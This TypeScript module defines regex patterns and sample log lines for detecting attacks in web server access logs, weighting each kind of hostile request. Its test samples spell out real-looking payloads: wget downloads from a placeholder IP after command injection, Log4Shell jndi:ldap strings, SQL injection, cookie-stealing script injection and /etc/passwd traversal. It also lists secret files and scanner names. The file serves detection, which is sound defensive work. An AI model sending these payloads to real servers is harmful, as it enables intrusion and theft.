import { patternSet } from '../matching/pattern.ts'

/**
 * Access logs in the common and combined format: OpenBSD httpd 7.x (styles common, combined and forwarded, which begin with
 * the name of the server), nginx 1.x (combined), Apache 2.4 (common, combined and vhost_combined).
 *
 * The address is the first field, or the second behind the server's name: both are the server's own words and all else in
 * the line is the peer's, so nobody can be framed by it. The regexes keep to the request and the agent nevertheless, never
 * the referrer: another site decides what its visitors' browsers send us there.
 *
 * What nobody asks for in good faith counts whatever the answer was. What may be there and in use (WordPress, phpMyAdmin)
 * counts only where it is not. A missing page may be a broken link, so it takes fifty different ones in an hour. What a page
 * embeds and what browsers and robots ask for by themselves (images, styles, favicon.ico, robots.txt) is nothing at all.
 */
const info = { name: 'httpd' }

// The pieces of a line. Each is a single way through any text, so that no request can be made slow to look at.

const address = String.raw`^(?:\S+ )?(?<ip>[\da-fA-F:.]+) - `
const date = String.raw`\[\d\d\/[A-Za-z]{3}\/\d{4}:\d\d:\d\d:\d\d [+-]\d{4}\] `
/** To the request: the first quotation mark begins it. */
const start = `${address}[^"]*${date}"`
/** Text between quotation marks; those that belong to it have a backslash. */
const quoted = String.raw`(?:[^"\\]|\\.)*`
const method = '[A-Z]+ '
/** Folders of any depth, and of few where more of the line is looked at behind them. */
const folders = String.raw`[^ "?]*\/`
const fewFolders = String.raw`(?:\/[^ "?\/]*){0,4}\/`
const query = String.raw`[^ "?]*\?[^ "]*`
/** From the end of a path to the status. */
const toStatus = `(?:[ ?]${quoted})?" `
const toAgent = String.raw`${quoted}" \d{3} \S+ "${quoted}" "`
/** No such thing here; 444 is nginx's for closing without a word. */
const missing = '(?:400|404|405|410|444) '
const space = String.raw`(?:\+|%20|\/\*\*\/| )+`

const anyOf = (...sources: readonly string[]) => `(?:${sources.join('|')})`
const at = (...sources: readonly string[]) => new RegExp(start + sources.join(''))
const inAnyCase = (...sources: readonly string[]) => new RegExp(start + sources.join(''), 'i')

// Sample lines as the three write them.

const nginx = (request: string, status = 404, agent = 'Mozilla/5.0', referrer = '-') =>
  `203.0.113.9 - - [21/Nov/2026:10:00:00 +0000] "${request}" ${status} 153 "${referrer}" "${agent}"`
const apache = (request: string, status = 404, agent = 'Mozilla/5.0', referrer = '-') =>
  `www.example.org:443 ${nginx(request, status, agent, referrer)}`
const openbsd = (request: string, status = 404) =>
  `www.example.org 2001:db8::9 - - [21/Nov/2026:10:00:00 +0000] "${request}" ${status} 0`
/** A request behind which a whole line of another address is written, in the agent and in the referrer. */
const framing = (request: string, status = 404) => {
  const escaped = nginx(request, status).replace('203.0.113.9', '192.0.2.1').replaceAll('"', String.raw`\"`)
  return nginx(request, status, escaped, escaped)
}

export const httpd = patternSet(info, [
  {
    name: 'secret-file',
    weight: 50,
    regex: inAnyCase(
      method,
      folders,
      anyOf(
        String.raw`\.env(?:\.[a-z\d._-]+)?`,
        String.raw`\.git\/(?:config|index|credentials|logs\/HEAD)`,
        String.raw`\.git-credentials`,
        String.raw`\.(?:aws\/(?:credentials|config)|ssh\/[a-z\d_.-]+|docker\/config\.json|kube\/config)`,
        String.raw`\.(?:htpasswd|netrc|pgpass|my\.cnf|bash_history|mysql_history|npmrc|pypirc|s3cfg|boto)`,
        'id_(?:rsa|dsa|ecdsa|ed25519)',
        String.raw`wp-config\.php(?:\.[a-z\d]+|~|_[a-z]+)`,
      ),
      '[ ?]',
    ),
    samples: {
      match: [
        [nginx('GET /.env HTTP/1.1'), '203.0.113.9'],
        [apache('GET /api/.env.production HTTP/1.1', 200), '203.0.113.9'],
        [openbsd('GET /.git/config HTTP/1.1'), '2001:db8::9'],
        [nginx('GET /.aws/credentials?x=1 HTTP/1.1', 403), '203.0.113.9'],
        [nginx('GET /wp-config.php.bak HTTP/1.1'), '203.0.113.9'],
      ],
      miss: [
        nginx('GET /environment HTTP/1.1', 200),
        nginx('GET /project.git/config HTTP/1.1', 200),
        nginx('GET /help?see=/.env HTTP/1.1', 200),
        nginx('GET /wp-config.php HTTP/1.1', 200),
      ],
      forged: [
        [framing('GET /.env HTTP/1.1'), '203.0.113.9'],
        ['192.0.2.1 203.0.113.9 - - [21/Nov/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 153', '203.0.113.9'],
        ['203.0.113.9 - 192.0.2.1 - [x] [21/Nov/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 153', '203.0.113.9'],
        ['client.example.org - 192.0.2.1 [21/Nov/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 153', null],
        [nginx('GET / HTTP/1.1', 200, 'Mozilla/5.0', 'https://198.51.100.1/.env'), null],
      ],
    },
  },
  {
    // Holes of PHPUnit, routers and cameras, Laravel, Apache, Fortinet, Pulse, Cisco and WebLogic.
    name: 'exploit',
    weight: 50,
    regex: inAnyCase(
      method,
      folders,
      anyOf(
        String.raw`eval-stdin\.php`,
        String.raw`(?:boaform|goform|gponform|dana-na|\+cscoe\+|wls-wsat|_async)\/`,
        'hnap1[ /]',
        String.raw`shell\?cd\+`,
        String.raw`setup\.cgi\?next_file=`,
        String.raw`cgi-bin\/(?:luci\/;stok=|\.|%2e|%%32)`,
        String.raw`_ignition\/execute-solution`,
        String.raw`remote\/(?:fgt_lang|login(?:check)?)[? ]`,
      ),
    ),
    samples: {
      match: [
        [nginx('POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1'), '203.0.113.9'],
        [nginx('POST /boaform/admin/formLogin HTTP/1.1', 405), '203.0.113.9'],
        [nginx('GET /HNAP1/ HTTP/1.1'), '203.0.113.9'],
        [apache('GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.1/x HTTP/1.1'), '203.0.113.9'],
        [nginx('POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1', 400), '203.0.113.9'],
        [openbsd('GET /remote/fgt_lang?lang=/../../../ HTTP/1.1'), '2001:db8::9'],
      ],
      miss: [nginx('GET /cgi-bin/search?q=x HTTP/1.1', 200), nginx('GET /docs/shell?topic=cd HTTP/1.1', 200)],
      forged: [[framing('GET /HNAP1/ HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    // What frameworks were made to run from a query: ThinkPHP, PHP's own settings, Struts, Spring.
    name: 'code-in-query',
    weight: 50,
    regex: inAnyCase(
      method,
      query,
      anyOf(
        'invokefunction&',
        'allow_url_include',
        'auto_prepend_file',
        String.raw`php(?::|%3a)(?:\/|%2f){2}(?:input|filter)`,
        '_memberaccess',
        String.raw`class\.module\.classloader`,
      ),
    ),
    samples: {
      match: [
        [
          nginx('GET /index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array HTTP/1.1', 200),
          '203.0.113.9',
        ],
        [openbsd('POST /?-d+allow_url_include%3D1+-d+auto_prepend_file%3Dphp://input HTTP/1.1', 200), '2001:db8::9'],
      ],
      miss: [nginx('GET /php:/input HTTP/1.1'), nginx('GET /manual?topic=php HTTP/1.1', 200)],
      forged: [[framing('GET /?x=php://input HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    // One step up may be a badly joined link; two are not, and encoded ones neither.
    name: 'path-traversal',
    weight: 50,
    regex: inAnyCase(
      method,
      '[^ "]*',
      anyOf(
        String.raw`(?:(?:\.|%2e|%252e|%c0%ae|%%32%65){2}(?:\/|%2f|%5c|%252f|%255c|\\x5c|\\\\)){2}`,
        String.raw`(?:%2e|%252e|%c0%ae|%%32%65){2}(?:\/|%2f|%5c|%252f|%255c|\\x5c|\\\\)`,
        String.raw`(?:\/|%2f)(?:etc(?:\/|%2f)(?:passwd|shadow)|proc(?:\/|%2f)self(?:\/|%2f)environ)`,
        String.raw`(?:\/|%2f|\\x5c|\\\\|%5c)(?:win|boot)\.ini`,
      ),
    ),
    samples: {
      match: [
        [nginx('GET /../../../../etc/passwd HTTP/1.1', 400), '203.0.113.9'],
        [nginx('GET /download?file=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1', 200), '203.0.113.9'],
        [apache('GET /static/%2e%2e/%2e%2e/secret HTTP/1.1'), '203.0.113.9'],
        [openbsd('GET /a?b=/etc/passwd HTTP/1.1', 200), '2001:db8::9'],
      ],
      miss: [nginx('GET /blog/../style.css HTTP/1.1'), nginx('GET /and...so/on... HTTP/1.1')],
      forged: [[framing('GET /../../x HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    name: 'jndi-lookup',
    weight: 50,
    regex: inAnyCase(
      `(?:${toAgent})?${quoted}`,
      String.raw`(?:\$|%24)(?:\{|%7b)(?:jndi(?::|%3a)|(?:lower|upper|env|sys)(?::|%3a)|(?::|%3a){2}-|(?:\$|%24)(?:\{|%7b))`,
    ),
    samples: {
      match: [
        [nginx('GET / HTTP/1.1', 200, `\${jndi:ldap://198.51.100.1:1389/a}`), '203.0.113.9'],
        [nginx('GET /?x=$%7Bjndi:ldap://198.51.100.1/a%7D HTTP/1.1', 200), '203.0.113.9'],
        [apache('GET / HTTP/1.1', 200, `\${\${::-j}ndi:dns://198.51.100.1/a}`), '203.0.113.9'],
      ],
      miss: [
        nginx('GET /?price=$%7B5%7D HTTP/1.1', 200),
        nginx('GET / HTTP/1.1', 200, 'Mozilla/5.0', `https://other.example/?\${jndi:ldap://198.51.100.1/a}`),
      ],
      forged: [
        [nginx('GET / HTTP/1.1', 200, `\${jndi:ldap://x}\\" 192.0.2.1 - - [21/Nov/2026:10:00:00 +0000] \\"GET /`), '203.0.113.9'],
      ],
    },
  },
  {
    name: 'sql-injection',
    weight: 30,
    regex: inAnyCase(
      method,
      query,
      anyOf(
        `union${space}(?:all${space})?select(?:${space}|\\()`,
        `(?:'|%27)(?:${space})?(?:or|and)(?:${space}|%27|')[^ "&=]{0,20}(?:=|%3d|like)`,
        String.raw`information_schema(?:\.|%2e)`,
        `waitfor${space}delay`,
        String.raw`(?:sleep|benchmark|extractvalue|updatexml|load_file)(?:\(|%28)`,
        String.raw`(?:concat|char)(?:\(|%28)0x`,
        'xp_cmdshell',
        `into${space}(?:out|dump)file`,
      ),
    ),
    samples: {
      match: [
        [nginx('GET /item?id=1+UNION+ALL+SELECT+1,2,3 HTTP/1.1', 200), '203.0.113.9'],
        [nginx("GET /item?id=1'%20or%20'1'='1 HTTP/1.1", 200), '203.0.113.9'],
        [apache('GET /item?id=1%27+AND+SLEEP(5)--+ HTTP/1.1', 200), '203.0.113.9'],
        [openbsd('GET /item?id=(select+1+from+information_schema.tables) HTTP/1.1', 200), '2001:db8::9'],
      ],
      miss: [
        nginx('GET /search?q=trade+union+selected+works HTTP/1.1', 200),
        nginx('GET /search?q=rock%27n%27roll+or+jazz HTTP/1.1', 200),
        nginx('GET /union+select HTTP/1.1', 404),
      ],
      forged: [[framing('GET /?id=1+union+select+2 HTTP/1.1', 200), '203.0.113.9']],
    },
  },
  {
    // Whoever follows a prepared link is its victim, so one or two are no reason to ban.
    name: 'script-injection',
    weight: 25,
    regex: inAnyCase(
      method,
      query,
      anyOf(
        String.raw`(?:<|%3c)(?:\/|%2f)?(?:script|iframe|svg|object)`,
        '(?:javascript|vbscript)(?::|%3a)',
        'on(?:error|load|mouseover|focus)(?:=|%3d)',
        String.raw`document(?:\.|%2e)(?:cookie|domain)`,
      ),
    ),
    samples: {
      match: [
        [nginx('GET /search?q=<script>alert(1)</script> HTTP/1.1', 200), '203.0.113.9'],
        [apache('GET /search?q=%22%3E%3Csvg/onload%3Dalert(1)%3E HTTP/1.1', 200), '203.0.113.9'],
        [openbsd('GET /search?q=x%20onerror=alert(document.cookie) HTTP/1.1', 200), '2001:db8::9'],
      ],
      miss: [nginx('GET /search?q=javascript+onload HTTP/1.1', 200), nginx('GET /<script> HTTP/1.1', 404)],
      forged: [[framing('GET /?q=<script> HTTP/1.1', 200), '203.0.113.9']],
    },
  },
  {
    name: 'command-injection',
    weight: 50,
    regex: inAnyCase(
      method,
      '[^ "]*',
      anyOf(
        String.raw`(?:;|%3b|\||%7c|${'`'}|%60|\$\(|%24%28|&&|%26%26|%0a)(?:${space})?(?:wget|curl|tftp|chmod|busybox|nslookup|ping|nc|bash|sh|id|uname)(?:${space}|%09|\$)`,
        `cd${space}(?:%2f|\\/)(?:tmp|var)`,
        String.raw`(?:\/|%2f)bin(?:\/|%2f)(?:ba|da)?sh`,
      ),
    ),
    samples: {
      match: [
        [nginx('GET /cgi-bin/status?host=1;wget+http://198.51.100.1/x HTTP/1.1'), '203.0.113.9'],
        [nginx('GET /ping?ip=127.0.0.1%3Bcurl%20198.51.100.1 HTTP/1.1', 200), '203.0.113.9'],
        [openbsd('GET /x?y=cd+/tmp HTTP/1.1'), '2001:db8::9'],
      ],
      miss: [nginx('GET /docs?topic=wget+and+curl HTTP/1.1', 200), nginx('GET /a;id=4 HTTP/1.1', 200)],
      forged: [[framing('GET /x?y=;wget+z HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    name: 'scanner',
    weight: 50,
    regex: inAnyCase(
      toAgent,
      '[^"]*',
      anyOf(
        'nikto',
        'sqlmap',
        'nmap scripting engine',
        'masscan',
        'zgrab',
        'nuclei',
        'acunetix',
        'nessus',
        'openvas',
        'wpscan',
        'dirbuster',
        'gobuster',
        'feroxbuster',
        'fuzz faster u fool',
        'whatweb',
        'arachni',
        String.raw`w3af\.`,
        'havij',
        'jorgee',
        'zmeu',
        'muieblackcat',
        'morfeus',
        'l9explore',
        'l9tcpid',
        'libredtail-http',
        'hello, ?world',
      ),
    ),
    samples: {
      match: [
        [nginx('GET / HTTP/1.1', 200, 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)'), '203.0.113.9'],
        [apache('GET /?id=1 HTTP/1.1', 200, 'sqlmap/1.8#stable (https://sqlmap.org)'), '203.0.113.9'],
        [nginx('GET / HTTP/1.1', 200, 'Mozilla/5.0 zgrab/0.x'), '203.0.113.9'],
      ],
      miss: [
        nginx('GET /nikto HTTP/1.1', 200),
        nginx('GET / HTTP/1.1', 200, 'Mozilla/5.0', 'https://www.example.net/sqlmap-1.8'),
      ],
      forged: [[nginx('GET / HTTP/1.1', 200, String.raw`nikto\" 192.0.2.1 - - \"nikto`), '203.0.113.9']],
    },
  },
  {
    name: 'missing-application',
    weight: 25,
    regex: inAnyCase(
      method,
      fewFolders,
      anyOf(
        String.raw`(?:wp-login|xmlrpc|wlwmanifest|phpinfo|adminer|configuration)\.(?:php|xml)`,
        'wp-admin',
        String.raw`wp-(?:includes|content\/(?:plugins|uploads|themes))\/[^ "?]*\.php`,
        '(?:phpmyadmin|phppgadmin|mysqladmin|myadmin|dbadmin|pma)[^ "?/]*',
        '(?:cgi-bin|actuator|solr|jenkins|jmx-console|nacos|geoserver|_profiler|owa|ecp)',
        String.raw`(?:manager\/(?:html|text|status)|telescope\/requests|druid\/(?:index|login)\.html)`,
        String.raw`administrator\/index\.php`,
        String.raw`\.(?:git|svn|hg|vscode|idea|ds_store)`,
        'server-(?:status|info)',
        String.raw`sftp(?:-config)?\.json`,
        String.raw`(?:backup|dump|database|db|mysql|site|www|wwwroot|web)\.(?:sql|zip|rar|7z|bak|tar|tgz|sql\.gz|tar\.gz)`,
      ),
      String.raw`(?:[\/ ?]${quoted})?" `,
      missing,
    ),
    samples: {
      match: [
        [nginx('GET /wp-login.php HTTP/1.1'), '203.0.113.9'],
        [nginx('POST /blog/xmlrpc.php HTTP/1.1', 405), '203.0.113.9'],
        [apache('GET /phpMyAdmin-4.8/index.php HTTP/1.1'), '203.0.113.9'],
        [openbsd('GET /actuator/health HTTP/1.1'), '2001:db8::9'],
        [nginx('GET /manager/html HTTP/1.1', 444), '203.0.113.9'],
        [nginx('GET /backup.sql.gz HTTP/1.1'), '203.0.113.9'],
      ],
      miss: [
        nginx('GET /wp-login.php HTTP/1.1', 200),
        nginx('GET /wp-content/uploads/2026/11/photo.jpg HTTP/1.1'),
        nginx('GET /phpmyadmin/ HTTP/1.1', 401),
      ],
      forged: [[framing('GET /wp-login.php HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    // WordPress answers a wrong password with its form again, and a right one by sending on (302).
    name: 'wordpress-password',
    weight: 20,
    regex: at(String.raw`POST ${folders}wp-login\.php HTTP\/[\d.]+" (?:200|403) `),
    samples: {
      match: [
        [nginx('POST /wp-login.php HTTP/1.1', 200), '203.0.113.9'],
        [openbsd('POST /blog/wp-login.php HTTP/1.1', 200), '2001:db8::9'],
      ],
      miss: [
        nginx('POST /wp-login.php HTTP/1.1', 302),
        nginx('POST /wp-login.php?action=lostpassword HTTP/1.1', 200),
        nginx('GET /wp-login.php HTTP/1.1', 200),
      ],
      forged: [[framing('POST /wp-login.php HTTP/1.1', 200), '203.0.113.9']],
    },
  },
  {
    // Passwords are tried here too, but Jetpack and the WordPress app are its honest users.
    name: 'wordpress-xmlrpc',
    weight: 2,
    regex: at(String.raw`POST ${folders}xmlrpc\.php HTTP\/[\d.]+" (?:200|403) `),
    samples: {
      match: [[nginx('POST /xmlrpc.php HTTP/1.1', 200), '203.0.113.9']],
      miss: [nginx('GET /xmlrpc.php HTTP/1.1', 200), nginx('POST /xmlrpc.php?for=jetpack HTTP/1.1', 200)],
      forged: [[framing('POST /xmlrpc.php HTTP/1.1', 200), '203.0.113.9']],
    },
  },
  {
    // Basic authentication: the first request has no name (`-`) and is answered 401 as a rule; one with a name was wrong.
    // Calendars and the like go on with an old password for long, several requests at a time.
    name: 'wrong-password',
    weight: 5,
    regex: new RegExp(`${address}(?<user>[^-"][^"]*) ${date}"${quoted}" 401 `),
    samples: {
      match: [
        ['203.0.113.9 - admin [21/Nov/2026:10:00:00 +0000] "GET /private/ HTTP/1.1" 401 381 "-" "curl/8.0"', '203.0.113.9'],
        ['www.example.org 2001:db8::9 - admin [21/Nov/2026:10:00:00 +0000] "GET /private/ HTTP/1.1" 401 0', '2001:db8::9'],
      ],
      miss: [
        '203.0.113.9 - - [21/Nov/2026:10:00:00 +0000] "GET /private/ HTTP/1.1" 401 381 "-" "curl/8.0"',
        '203.0.113.9 - admin [21/Nov/2026:10:00:00 +0000] "GET /private/ HTTP/1.1" 200 381 "-" "curl/8.0"',
      ],
      forged: [
        ['203.0.113.9 - 192.0.2.1 - admin [21/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 401 381 "-" "curl/8.0"', '203.0.113.9'],
      ],
    },
  },
  {
    name: 'proxy-probe',
    weight: 25,
    regex: at(String.raw`(?:CONNECT |[A-Z]+ https?:\/\/)${quoted}" 4\d\d `),
    samples: {
      match: [
        [nginx('CONNECT 198.51.100.1:443 HTTP/1.1', 400), '203.0.113.9'],
        [apache('GET http://198.51.100.1/judge.php HTTP/1.1', 404), '203.0.113.9'],
      ],
      miss: [nginx('GET http://www.example.org/ HTTP/1.1', 200), nginx('GET /?u=http://198.51.100.1/ HTTP/1.1', 404)],
      forged: [[framing('CONNECT 192.0.2.1:443 HTTP/1.1', 405), '203.0.113.9']],
    },
  },
  {
    // Another protocol, or none: RDP, SOCKS, SMB, SSH, T3 and what scanners send to learn what listens.
    name: 'garbage',
    weight: 20,
    regex: at(String.raw`(?:\\x(?:[^1]|1[^6])|\\[abfnrtv0]|SSH-|MGLNDD_|GIOP|t3 \d)${quoted}" 4\d\d `),
    samples: {
      match: [
        [nginx(String.raw`\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`, 400), '203.0.113.9'],
        [apache(String.raw`\n`, 400), '203.0.113.9'],
        [nginx('MGLNDD_198.51.100.1_80', 400), '203.0.113.9'],
      ],
      miss: [nginx(String.raw`GET /\xE0 HTTP/1.1`, 404), nginx('', 400), nginx('-', 408)],
      forged: [[nginx(String.raw`\x00\" 192.0.2.1 - - [21/Nov/2026:10:00:00 +0000] \"\x00`, 400), '203.0.113.9']],
    },
  },
  {
    // Also what a browser does that is sent to https://www.example.org:80, several times over.
    name: 'tls-to-plain-port',
    weight: 5,
    regex: at(String.raw`\\x16\\x03${quoted}" 4\d\d `),
    samples: {
      match: [[nginx(String.raw`\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03`, 400), '203.0.113.9']],
      miss: [nginx(String.raw`\x16\x02`, 400)],
      forged: [[nginx(String.raw`\x16\x03\x01\" 192.0.2.1 - - [21/Nov/2026:10:00:00 +0000] \"\x16\x03`, 400), '203.0.113.9']],
    },
  },
  {
    name: 'missing-script',
    weight: 5,
    distinct: 'path',
    regex: inAnyCase(
      method,
      String.raw`(?<path>[^ "?]*\.(?:php\d?|phtml|aspx?|ashx|asmx|jspx?|cgi|pl|cfm|exe|dll|sh|do|action|sql|bak|old|swp|zip|rar|7z|tar|gz|tgz|ya?ml|ini|conf|log))`,
      toStatus,
      '(?:404|410) ',
    ),
    samples: {
      match: [
        [nginx('GET /alfa.php HTTP/1.1'), '203.0.113.9'],
        [openbsd('POST /upload/shell.jsp?x=1 HTTP/1.1'), '2001:db8::9'],
      ],
      miss: [nginx('GET /index.php HTTP/1.1', 200), nginx('GET /logo.php.png HTTP/1.1')],
      forged: [[framing('GET /alfa.php HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    name: 'missing-page',
    weight: 2,
    distinct: 'path',
    regex: inAnyCase(method, String.raw`(?<path>[^ "?]*\/[^ "?\/.]*(?:\.html?)?)`, toStatus, '(?:404|410) '),
    samples: {
      match: [
        [nginx('GET /no/such/page HTTP/1.1'), '203.0.113.9'],
        [openbsd('GET /old.html HTTP/1.1'), '2001:db8::9'],
      ],
      miss: [
        nginx('GET /favicon.ico HTTP/1.1'),
        nginx('GET /apple-touch-icon-precomposed.png HTTP/1.1'),
        nginx('GET /robots.txt HTTP/1.1'),
        nginx('GET /.well-known/security.txt HTTP/1.1'),
        nginx('GET /assets/app.js.map HTTP/1.1'),
        nginx('GET /page HTTP/1.1', 200),
      ],
      forged: [[framing('GET /no/such/page HTTP/1.1'), '203.0.113.9']],
    },
  },
  {
    name: 'forbidden-page',
    weight: 2,
    distinct: 'path',
    regex: inAnyCase(method, String.raw`(?<path>[^ "?]*\/[^ "?\/.]*(?:\.(?:html?|php))?)`, toStatus, '403 '),
    samples: {
      match: [[nginx('GET /private/ HTTP/1.1', 403), '203.0.113.9']],
      miss: [nginx('GET /private/photo.jpg HTTP/1.1', 403), nginx('GET /private/ HTTP/1.1', 200)],
      forged: [[framing('GET /private/ HTTP/1.1', 403), '203.0.113.9']],
    },
  },
])
